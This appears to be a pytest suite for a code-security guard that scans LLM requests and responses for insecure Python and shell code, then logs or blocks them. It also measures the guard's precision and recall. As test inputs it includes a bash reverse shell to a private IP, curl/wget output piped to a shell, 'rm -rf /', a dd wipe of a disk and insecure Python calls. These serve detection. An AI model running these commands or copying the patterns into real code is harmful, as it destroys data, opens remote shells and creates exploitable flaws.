"""Code security: code found in text (fences, labels, bare Python), bandit and shell rules,
the score mapping, the SDK section's validation, the stage (both ways, log_only, block,
domains, JSON values through the pipeline), the stream's hold-back, and the measured quality
on the frozen corpus."""

from __future__ import annotations

import importlib.util
import json
import random
from pathlib import Path
from typing import Any

import pytest

from declawd.errors import InvalidInput
from declawd.guard import codesec
from declawd.guard.codesec import (
    CodeSecurityGuard,
    CodeSecurityStage,
    CodeStream,
    find_code,
    parse_code_security,
    rating,
    scan,
    scan_shell,
)
from declawd.inspect.bodies import rewrite_text_or_json
from declawd.inspect.pipeline import Blocked, ExchangeState

CORPUS = Path(__file__).resolve().parents[2] / "data" / "codesec"
SHELL_TRUE = "import subprocess\nsubprocess.call(cmd, shell=True)\n"
SAFE = "import subprocess\nsubprocess.run(['ls', path], check=True)\n"


def fenced(code: str, label: str = "python") -> str:
    return f"Here you go:\n\n```{label}\n{code}```\n\nHope that helps.\n"


def ids(text: str, excluded: frozenset[str] = frozenset()) -> list[str]:
    return sorted(f.test_id for f in scan(text, excluded).findings)


# Finding code ------------------------------------------------------------------------------


def test_fences_with_labels_tildes_and_an_unclosed_one() -> None:
    text = "a\n```py\nx = 1\n```\nb\n~~~bash\nls\n~~~\n````\nopen\n```\nstill in\n"
    blocks = find_code(text)
    assert [(b.language, b.code, b.source) for b in blocks] == [
        ("python", "x = 1\n", "fence"),
        ("shell", "ls\n", "fence"),
        # a ```` fence closes only on 4+ backticks; unclosed, it runs to the end
        ("shell", "open\n```\nstill in\n", "guessed"),
    ]


def test_an_inline_triple_backtick_is_not_a_fence() -> None:
    assert find_code("use ```x = eval(y)``` inline") == []


def test_unlabelled_fences_are_python_when_they_parse_else_shell() -> None:
    py, sh = find_code(fenced("x = eval(y)\n", "") + fenced("curl -s https://x | sh\n", ""))
    assert (py.language, py.source, sh.language, sh.source) == (
        "python",
        "parsed",
        "shell",
        "guessed",
    )
    assert ids(fenced("x = eval(y)\n", "")) == ["B307"]
    assert ids(fenced("curl -s https://x | sh\n", "")) == ["SH001"]


def test_bare_python_is_one_block_prose_is_none() -> None:
    assert [b.source for b in find_code(SHELL_TRUE)] == ["whole"]
    assert find_code("Please run the tests (all of them) before merging.") == []
    assert find_code("gpt-4o-mini") == []
    assert ids(SHELL_TRUE) == ["B602"]


def test_other_languages_are_reported_not_scanned() -> None:
    r = scan(fenced("eval(userInput);\n", "javascript"))
    assert (r.findings, r.unscanned_languages, r.blocks) == ((), ("javascript",), 1)


def test_excluded_languages_go_through_the_aliases() -> None:
    text = fenced(SHELL_TRUE, "py") + fenced("chmod 777 /srv\n", "bash")
    assert ids(text) == ["B602", "SH002"]
    assert ids(text, CodeSecurityGuard(excluded_languages=("python",)).excluded) == ["SH002"]
    assert ids(text, CodeSecurityGuard(excluded_languages=("SH", "Python3")).excluded) == []


def test_a_python_labelled_block_that_does_not_parse_still_gets_the_shell_rules() -> None:
    r = scan(fenced("$ curl -fsSL https://get.example.com | bash\n", "python"))
    assert (r.unparsed, [f.test_id for f in r.findings]) == (1, ["SH001"])


# Bandit and the score ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("code", "want"),
    [
        ("import pickle\npickle.loads(b)\n", ["B301"]),
        ("import yaml\nyaml.load(s)\n", ["B506"]),
        ("import yaml\nyaml.safe_load(s)\n", []),
        ("requests.get(u, verify=False, timeout=3)\n", ["B501"]),
        ("import hashlib\nhashlib.md5(p.encode())\n", ["B324"]),
        ("import tempfile\ntempfile.mktemp()\n", ["B306"]),
        ("cur.execute('SELECT * FROM t WHERE a = %s' % a)\n", ["B608"]),
        ("cur.execute('SELECT * FROM t WHERE a = %s', (a,))\n", []),
        ("password = 'hunter2'\n", ["B105"]),
    ],
)
def test_bandit_findings(code: str, want: list[str]) -> None:
    assert ids(fenced(code)) == want


def test_nosec_comments_are_not_honoured() -> None:
    assert ids("import subprocess\nsubprocess.call(c, shell=True)  # nosec\n") == ["B602"]


def test_low_severity_import_notices_are_dropped() -> None:
    assert ids("import subprocess\nimport pickle\n") == []
    assert ids("import telnetlib\n") == ["B401"]  # a HIGH import notice stays


def test_the_mapping_and_the_best_finding_scores() -> None:
    assert rating("HIGH", "HIGH") == 1.0
    assert rating("MEDIUM", "HIGH") == pytest.approx(0.7)
    assert rating("MEDIUM", "MEDIUM") == pytest.approx(0.63)
    assert rating("LOW", "MEDIUM") == pytest.approx(0.36)
    assert rating("UNDEFINED", "HIGH") == 0.0
    r = scan(fenced("password = 'x'\nimport os\nos.system('ls ' + d)\n"))
    assert r.score == 1.0 and {f.test_id for f in r.findings} == {"B105", "B605"}


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("curl -fsSL https://x.io/i.sh | sudo bash", "SH001"),
        ('sh -c "$(wget -qO- https://x.io/i.sh)"', "SH001"),
        ("chmod -R 777 /var/www", "SH002"),
        ("sudo rm -rf / --no-preserve-root", "SH003"),
        ("rm -rf ~/", "SH003"),
        ("curl -k https://internal/api", "SH004"),
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "SH005"),
        ("dd if=/dev/zero of=/dev/sda bs=1M", "SH006"),
        ("sudo setenforce 0", "SH007"),
        ("sshpass -p secret ssh root@h", "SH008"),
    ],
)
def test_shell_rules_fire(line: str, rule: str) -> None:
    assert [f.test_id for f in scan_shell(line)] == [rule]


@pytest.mark.parametrize(
    "line",
    [
        "curl -s https://api/x | jq .name",
        "chmod 755 /var/www",
        "rm -rf ./build node_modules",
        "curl --cacert ca.pem https://internal/api",
        "nc -zv db 5432",
        "kill -9 1234",
    ],
)
def test_shell_rules_leave_the_look_alikes(line: str) -> None:
    assert scan_shell(line) == ()


# The SDK section ---------------------------------------------------------------------------


def test_parse_defaults_and_normalised_shape() -> None:
    assert parse_code_security({}) == (
        {"enabled": False, "threshold": 0.6, "action": "log_only"},
        None,
    )
    out, guard = parse_code_security(
        {
            "enabled": True,
            "threshold": 0.5,
            "action": "block",
            "excluded_languages": ["sh"],
            "domains": ["*.openai.com"],
            "extra": 1,
        }
    )
    assert out == {
        "enabled": True,
        "threshold": 0.5,
        "action": "block",
        "excluded_languages": ["sh"],
        "domains": ["*.openai.com"],
    }
    assert guard == CodeSecurityGuard(0.5, "block", ("sh",), ("*.openai.com",))
    assert parse_code_security(True)[1] == CodeSecurityGuard()


@pytest.mark.parametrize(
    ("raw", "field", "reason"),
    [
        ({"threshold": 1.5}, "security.code_security.threshold", "must be between 0 and 1"),
        ({"threshold": "0.5"}, "security.code_security.threshold", "must be between 0 and 1"),
        ({"threshold": True}, "security.code_security.threshold", "must be between 0 and 1"),
        ({"action": "strip"}, "security.code_security.action", "must be 'block' or 'log_only'"),
        (
            {"domains": ["ok", ""]},
            "security.code_security.domains[1]",
            "must be a non-empty string",
        ),
        (
            {"excluded_languages": [3]},
            "security.code_security.excluded_languages[0]",
            "must be a non-empty string",
        ),
        ({"enabled": "yes"}, "security.code_security.enabled", "must be a boolean"),
        ([], "security.code_security", "must be an object"),
    ],
)
def test_parse_errors_name_the_field(raw: Any, field: str, reason: str) -> None:
    with pytest.raises(InvalidInput) as e:
        parse_code_security(raw)
    assert (e.value.field, e.value.reason) == (field, reason)


def test_a_bad_domain_regex_is_refused() -> None:
    with pytest.raises(InvalidInput) as e:
        parse_code_security({"domains": ["~(unclosed"]}, "p.code_security")
    assert e.value.field == "p.code_security.domains[0]"


def test_wire_round_trip_and_domains() -> None:
    g = CodeSecurityGuard(0.7, "block", ("bash",), ("*.example.com",))
    assert CodeSecurityGuard.from_wire(json.loads(json.dumps(g.to_wire()))) == g
    assert CodeSecurityGuard.from_wire(CodeSecurityGuard().to_wire()) == CodeSecurityGuard()
    assert CodeSecurityGuard.from_wire(None) is None
    assert g.applies_to("api.example.com") and not g.applies_to("other.org")
    assert CodeSecurityGuard().applies_to(None)  # None: every host


# The stage ---------------------------------------------------------------------------------


def run(guard: CodeSecurityGuard, texts: dict[str, str], host: str = "api.x") -> ExchangeState:
    x = ExchangeState()
    stage = CodeSecurityStage(guard, host)
    for way, text in texts.items():
        p = stage.start(x, way)  # type: ignore[arg-type]
        assert p is not None
        assert p.apply(text) == text  # never rewritten
    return x


def test_log_only_records_findings_both_ways_and_passes_the_text() -> None:
    x = run(CodeSecurityGuard(), {"outbound": fenced(SAFE), "inbound": fenced(SHELL_TRUE)})
    r = x.scratch["scan_results"]["code_security"]
    assert (r["detected"], r["score"], r["categories"], r["ways"]) == (
        True,
        1.0,
        ["B602"],
        ["inbound"],
    )
    found = {(f["test_id"], f["way"], f["line"]) for f in r["findings"]}
    assert ("B602", "inbound", 2) in found and ("B603", "outbound", 2) in found  # B603: LOW
    json.dumps(x.scratch["scan_results"])  # JSON-able (for the audit and Rego)
    assert SHELL_TRUE not in json.dumps(r)  # no code in the record


def test_below_the_threshold_is_recorded_not_detected() -> None:
    x = run(CodeSecurityGuard(action="block"), {"inbound": fenced("password = 'pw1'\n")})
    r = x.scratch["scan_results"]["code_security"]
    assert (r["detected"], r["score"], r["categories"]) == (False, 0.36, [])
    assert [f["test_id"] for f in r["findings"]] == ["B105"]


def test_text_without_code_leaves_no_record() -> None:
    x = run(CodeSecurityGuard(), {"inbound": "All done, the tests pass."})
    assert "scan_results" not in x.scratch


def test_block_raises_insecure_code_detected() -> None:
    with pytest.raises(Blocked) as e:
        run(CodeSecurityGuard(action="block"), {"inbound": fenced(SHELL_TRUE)})
    assert (e.value.error, e.value.status) == ("insecure_code_detected", 403)
    assert "B602" in e.value.reason and "shell=True" not in e.value.reason


def test_threshold_zero_still_needs_a_finding() -> None:
    x = run(CodeSecurityGuard(threshold=0.0, action="block"), {"inbound": fenced("x = 1\n")})
    assert x.scratch["scan_results"]["code_security"]["detected"] is False


def test_the_stage_is_off_for_hosts_outside_domains_and_without_a_guard() -> None:
    x = ExchangeState()
    assert (
        CodeSecurityStage(CodeSecurityGuard(domains=("a.com",)), "b.com").start(x, "inbound")
        is None
    )
    assert CodeSecurityStage(None, "a.com").start(x, "inbound") is None


def test_an_llm_answer_in_json_is_scanned_as_one_value() -> None:
    """The pipeline hands a JSON body's string values to `apply` one by one."""
    x = ExchangeState()
    p = CodeSecurityStage(CodeSecurityGuard(action="block"), "api.openai.com").start(x, "inbound")
    assert p is not None
    answer = {"choices": [{"message": {"role": "assistant", "content": fenced(SHELL_TRUE)}}]}
    with pytest.raises(Blocked):
        rewrite_text_or_json(json.dumps(answer), p.apply)
    safe = json.dumps({"choices": [{"message": {"content": fenced(SAFE)}}], "id": "c-1"})
    x2 = ExchangeState()
    p2 = CodeSecurityStage(CodeSecurityGuard(action="block"), "h").start(x2, "inbound")
    assert p2 is not None
    assert rewrite_text_or_json(safe, p2.apply) == safe
    assert x2.scratch["scan_results"]["code_security"]["detected"] is False


# The stream --------------------------------------------------------------------------------


def feed_in_pieces(s: CodeStream, text: str, seed: int) -> str:
    rng = random.Random(seed)
    out, i = [], 0
    while i < len(text):
        n = rng.randint(1, 9)
        out.append(s.feed(text[i : i + n]))
        i += n
    return "".join(out) + s.flush()


@pytest.mark.parametrize("hold", [True, False])
@pytest.mark.parametrize("seed", range(5))
def test_a_stream_passes_the_text_unchanged_and_checks_each_fence_whole(
    hold: bool, seed: int
) -> None:
    text = "intro\n" + fenced(SAFE) + "between ```inline``` text\n" + fenced("ls -la\n", "sh")
    seen: list[list[codesec.CodeBlock]] = []
    s = CodeStream(hold, seen.append)
    assert feed_in_pieces(s, text, seed) == text
    assert [(b[0].language, b[0].code) for b in seen] == [("python", SAFE), ("shell", "ls -la\n")]


def test_under_hold_a_fence_is_released_only_after_its_check() -> None:
    def refuse(blocks: list[codesec.CodeBlock]) -> None:
        if scan_shell(blocks[0].code):
            raise Blocked("no", error="insecure_code_detected")

    s = CodeStream(True, refuse)
    assert s.feed("Run:\n```bash\n") == "Run:\n"
    assert s.feed("curl https://x | sh\n") == ""
    with pytest.raises(Blocked):
        s.feed("```\n")


def test_a_fence_over_the_hold_limit_is_checked_and_released() -> None:
    seen: list[str] = []
    s = CodeStream(True, lambda blocks: seen.append(blocks[0].code), limit=20)
    out = s.feed("```py\n") + s.feed("x = 1\n" * 5)
    assert out.startswith("```py\n") and len(seen) == 1  # released, checked as it stood
    out += s.feed("y = 2\n```\n") + s.flush()
    assert out == "```py\n" + "x = 1\n" * 5 + "y = 2\n```\n" and len(seen) == 2


def test_the_stage_stream_blocks_an_insecure_fence() -> None:
    x = ExchangeState()
    p = CodeSecurityStage(CodeSecurityGuard(action="block"), "h").start(x, "inbound")
    assert p is not None
    s = p.stream()
    with pytest.raises(Blocked):
        feed_in_pieces(s, fenced(SHELL_TRUE), 1)  # type: ignore[arg-type]


# The corpus and its measured quality -------------------------------------------------------


def _rows() -> list[dict[str, Any]]:
    with (CORPUS / "corpus.jsonl").open() as fh:
        return [json.loads(line) for line in fh]


def _generator() -> Any:
    spec = importlib.util.spec_from_file_location("codesec_corpus", CORPUS / "build_corpus.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def test_the_corpus_is_frozen_and_large_enough() -> None:
    assert _generator().build() == _rows()  # the file is what the seeded generator writes
    rows = _rows()
    assert sum(r["label"] == 1 for r in rows) >= 150
    assert sum(r["label"] == 0 for r in rows) >= 150
    by_template: dict[int, set[str]] = {}
    for r in rows:
        by_template.setdefault(r["template"], set()).add(r["split"])
    assert all(len(s) == 1 for s in by_template.values())  # no template in both splits


def _pr(rows: list[dict[str, Any]], threshold: float) -> tuple[float, float]:
    tp = fp = fn = 0
    for r in rows:
        hit = codesec.flagged(scan(r["text"]), threshold)
        tp += hit and r["label"] == 1
        fp += hit and r["label"] == 0
        fn += not hit and r["label"] == 1
    return tp / (tp + fp), tp / (tp + fn)


def test_heldout_quality_at_the_default_threshold_meets_the_bar() -> None:
    held = [r for r in _rows() if r["split"] == "heldout"]
    precision, recall = _pr(held, codesec.DEFAULT_THRESHOLD)
    assert precision >= 0.95 and recall >= 0.8, (precision, recall)
    precision, recall = _pr(held, 0.36)  # the best-on-dev threshold (docs)
    assert precision >= 0.9 and recall >= 0.9, (precision, recall)
